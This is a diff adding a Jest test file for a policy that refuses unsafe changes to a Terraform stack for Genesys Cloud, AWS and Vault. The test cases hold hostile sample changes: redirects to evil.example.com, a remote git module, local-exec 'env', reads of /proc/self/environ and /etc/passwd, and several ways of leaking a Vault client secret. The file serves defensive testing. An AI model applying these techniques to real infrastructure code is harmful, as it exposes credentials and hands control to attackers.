@@ -1,0 +1,353 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { refusalsOf } from "../../lib/policies/proposed-stack";
+
+/** A synthesized stack of the sample registry. */
+const TEXT = readFileSync(join(__dirname, "..", "snapshots", "org-na-prod.json"), "utf8");
+const DEPLOYED = JSON.parse(TEXT);
+
+// biome-ignore lint/suspicious/noExplicitAny: a test changes any part of the JSON
+type Stack = any;
+
+/** Returns the refusals of the stack after a change. */
+function afterChange(change: (stack: Stack) => void): string[] {
+  const stack = JSON.parse(TEXT);
+  change(stack);
+  return refusalsOf(DEPLOYED, stack);
+}
+
+const queue = (stack: Stack) => stack.resource.genesyscloud_routing_queue["general-enquiries"];
+const entry = "ephemeral.vault_kv_secret_v2.genesys.data.client_secret";
+
+describe("a proposed stack is refused if", () => {
+  const attacks: readonly (readonly [string, (stack: Stack) => void, RegExp])[] = [
+    [
+      "a provider comes from elsewhere",
+      (stack) => {
+        stack.terraform.required_providers.http = { source: "hashicorp/http", version: ">= 3" };
+      },
+      /block terraform differs: required_providers/,
+    ],
+    [
+      "a known provider comes from another registry",
+      (stack) => {
+        stack.terraform.required_providers.aws.source = "evil.example.com/hashicorp/aws";
+      },
+      /block terraform differs/,
+    ],
+    [
+      "the state is elsewhere",
+      (stack) => {
+        stack.terraform.backend.s3.endpoints = { s3: "https://evil.example.com" };
+      },
+      /block terraform differs: backend/,
+    ],
+    [
+      "the state is in HCP Terraform",
+      (stack) => {
+        stack.terraform.cloud = { organization: "evil" };
+      },
+      /block terraform differs: cloud/,
+    ],
+    [
+      "Genesys Cloud is reached through a gateway",
+      (stack) => {
+        for (const block of stack.provider.genesyscloud) {
+          block.gateway = { host: "evil.example.com" };
+        }
+      },
+      /provider genesyscloud differs: gateway/,
+    ],
+    [
+      "Genesys Cloud is reached through a proxy",
+      (stack) => {
+        stack.provider.genesyscloud[0].proxy = { host: "evil.example.com" };
+      },
+      /provider genesyscloud differs: proxy/,
+    ],
+    [
+      "AWS is reached at other endpoints",
+      (stack) => {
+        stack.provider.aws[0].endpoints = [{ sts: "https://evil.example.com" }];
+      },
+      /provider aws differs: endpoints/,
+    ],
+    [
+      "the login is at another Vault",
+      (stack) => {
+        stack.provider.vault[0].address = "https://evil.example.com";
+      },
+      /provider vault differs: address/,
+    ],
+    [
+      "a further provider has the credential",
+      (stack) => {
+        stack.provider.genesyscloud.push({ alias: "other", oauthclient_secret: `\${${entry}}` });
+      },
+      /provider genesyscloud differs: alias, oauthclient_secret/,
+    ],
+    [
+      "tags have the credential",
+      (stack) => {
+        stack.provider.aws[0].default_tags = [{ tags: { secret: `\${${entry}}` } }];
+      },
+      /provider aws differs: default_tags/,
+    ],
+    [
+      "a condition tells the credential, letter by letter",
+      (stack) => {
+        stack.ephemeral.vault_kv_secret_v2.genesys.lifecycle.postcondition.push({
+          condition: '${substr(self.data.client_secret, 0, 1) != "a"}',
+          error_message: "it begins with a",
+        });
+      },
+      /ephemeral\.vault_kv_secret_v2\.genesys differs/,
+    ],
+    [
+      "the guard compares with another organisation",
+      (stack) => {
+        stack.ephemeral.vault_kv_secret_v2.genesys.lifecycle.postcondition[0].condition =
+          '${lower(try(self.data["org_id"], "")) == "11111111-1111-4111-8111-111111111111"}';
+      },
+      /ephemeral\.vault_kv_secret_v2\.genesys differs/,
+    ],
+    [
+      "an ephemeral resource sends something",
+      (stack) => {
+        stack.ephemeral.aws_lambda_invocation = { send: { payload: `\${${entry}}` } };
+      },
+      /ephemeral\.aws_lambda_invocation\.send differs/,
+    ],
+    [
+      "a local has the credential",
+      (stack) => {
+        stack.locals = { copy: `\${${entry}}` };
+      },
+      /locals\.copy uses an ephemeral value/,
+    ],
+    [
+      "a resource has it, with spaces between the words",
+      (stack) => {
+        queue(stack).description = "${ephemeral . vault_kv_secret_v2.genesys.data.client_secret}";
+      },
+      /general-enquiries\.description uses an ephemeral value/,
+    ],
+    [
+      "the name of a field has it",
+      (stack) => {
+        queue(stack).tags = { [`\${${entry}}`]: "x" };
+      },
+      /general-enquiries\.tags uses an ephemeral value/,
+    ],
+    [
+      "a field has it that looks like a comment",
+      (stack) => {
+        queue(stack).tags = { "//": `\${${entry}}` };
+      },
+      /general-enquiries\.tags\.\/\/ uses an ephemeral value/,
+    ],
+    [
+      "a provider has a field that looks like a comment",
+      (stack) => {
+        stack.provider.vault[0].auth_login_jwt[0]["//"] = { address: "https://evil.example.com" };
+      },
+      /provider vault differs: auth_login_jwt/,
+    ],
+    [
+      "a precondition has it",
+      (stack) => {
+        queue(stack).lifecycle = { precondition: [{ condition: `\${${entry} != ""}` }] };
+      },
+      /lifecycle\.precondition\.0\.condition uses an ephemeral value/,
+    ],
+    [
+      "an output has it",
+      (stack) => {
+        stack.output = { ...stack.output, secret: { value: `\${${entry}}`, ephemeral: true } };
+      },
+      /output\.secret\.value uses an ephemeral value/,
+    ],
+    [
+      "a file of the runner is read",
+      (stack) => {
+        queue(stack).description = '${file("/proc/self/environ")}';
+      },
+      /general-enquiries\.description calls file/,
+    ],
+    [
+      "a file outside of the stack's folder is read",
+      (stack) => {
+        queue(stack).description = '${filebase64("../../../secrets")}';
+      },
+      /calls filebase64/,
+    ],
+    [
+      "an asset's path leads out of the assets",
+      (stack) => {
+        queue(stack).description = '${file("../../assets/../../secrets")}';
+      },
+      /calls file/,
+    ],
+    [
+      "a path is computed",
+      (stack) => {
+        queue(stack).description = '${file("${var.genesys_credential}")}';
+      },
+      /calls file/,
+    ],
+    [
+      "a template is rendered, which may read any file",
+      (stack) => {
+        queue(stack).description = '${templatefile("assets/a.tpl", {})}';
+      },
+      /calls templatefile/,
+    ],
+    [
+      "a directive reads a file",
+      (stack) => {
+        queue(stack).description = '%{ if fileexists("/etc/passwd") }a%{ endif }';
+      },
+      /calls fileexists/,
+    ],
+    [
+      "a secret of the state is printed",
+      (stack) => {
+        stack.check = {
+          leak: {
+            assert: [
+              { condition: "${false}", error_message: "${nonsensitive(random_password.a.result)}" },
+            ],
+          },
+        };
+      },
+      /check\.leak\.assert\.0\.error_message calls nonsensitive/,
+    ],
+    [
+      "a module is called",
+      (stack) => {
+        stack.module = { a: { source: "git::https://evil.example.com/a" } };
+      },
+      /it has a block module/,
+    ],
+    [
+      "a provisioner runs",
+      (stack) => {
+        queue(stack).provisioner = [{ "local-exec": { command: "env" } }];
+      },
+      /general-enquiries has a provisioner/,
+    ],
+    [
+      "a removed object has a provisioner",
+      (stack) => {
+        stack.removed = [{ from: "a.b", provisioner: [{ "local-exec": { command: "env" } }] }];
+      },
+      /removed has a provisioner/,
+    ],
+    [
+      "another state is read",
+      (stack) => {
+        stack.data.terraform_remote_state = { other: { backend: "http" } };
+      },
+      /it reads data\.terraform_remote_state/,
+    ],
+    [
+      "a check reads another state",
+      (stack) => {
+        stack.check = { a: { data: { terraform_remote_state: { b: {} } } } };
+      },
+      /it reads data\.terraform_remote_state/,
+    ],
+    [
+      "the planner becomes the deployer",
+      (stack) => {
+        stack.variable.genesys_credential.default = "deployer";
+        stack.variable.genesys_credential.validation = [];
+      },
+      /its variable genesys_credential differs/,
+    ],
+  ];
+
+  test.each(attacks)("%s", (_, change, refusal) => {
+    expect(afterChange(change)).toEqual(expect.arrayContaining([expect.stringMatching(refusal)]));
+  });
+});
+
+describe("a proposed stack may", () => {
+  const changes: readonly (readonly [string, (stack: Stack) => void])[] = [
+    ["stay as it is", () => {}],
+    [
+      "have other objects, comments and outputs",
+      (stack) => {
+        queue(stack).description = "new";
+        stack.resource.genesyscloud_routing_queue.other = {
+          name: "Other",
+          division_id: "${genesyscloud_auth_division.service.id}",
+        };
+        stack["//"] = { outputs: {} };
+        stack.output = {
+          ...stack.output,
+          queue: { value: "${genesyscloud_routing_queue.other.id}" },
+        };
+        delete stack.resource.genesyscloud_auth_division;
+      },
+    ],
+    [
+      "have other tags and limits",
+      (stack) => {
+        stack.provider.aws[0].default_tags = [{ tags: { owner: "somebody-else" } }];
+        for (const block of stack.provider.genesyscloud) block.token_pool_size = 3;
+      },
+    ],
+    [
+      "name another version of the master",
+      (stack) => {
+        const { vault_kv_secret_v2: entries } = stack.ephemeral;
+        const master = Object.keys(entries).find((name) => name.includes("master")) ?? "";
+        entries[master].version = '${(var.genesys_credential == "planner") ? null : 2}';
+      },
+    ],
+    [
+      "read a file of its own, or an asset",
+      (stack) => {
+        queue(stack).description = '${file("texts/a.txt")} ${filesha256("../../assets/1/a.zip")}';
+      },
+    ],
+    [
+      "say the words in a text",
+      (stack) => {
+        queue(stack).description = "file(a) and ephemeral are words";
+      },
+    ],
+    [
+      "hand a value on to a write-only argument",
+      (stack) => {
+        stack.resource.aws_secretsmanager_secret_version.other = {
+          secret_id: "a",
+          secret_string_wo: `\${jsonencode(${entry})}`,
+          secret_string_wo_version: 1,
+        };
+      },
+    ],
+    [
+      "move and import objects",
+      (stack) => {
+        stack.moved = [{ from: "a.b", to: "a.c" }];
+        stack.import = [{ to: "a.c", id: "1" }];
+      },
+    ],
+  ];
+
+  test.each(changes)("%s", (_, change) => {
+    expect(afterChange(change)).toEqual([]);
+  });
+
+  test("have a first credential that rotates, with the master's entry", () => {
+    const { vault_kv_secret_v2: entries } = DEPLOYED.ephemeral;
+    const first = JSON.parse(TEXT);
+    for (const name of Object.keys(entries)) {
+      if (name.includes("master")) delete first.ephemeral.vault_kv_secret_v2[name];
+    }
+    expect(Object.keys(first.ephemeral.vault_kv_secret_v2)).toEqual(["genesys"]);
+    expect(refusalsOf(first, DEPLOYED)).toEqual([]);
+  });
+});
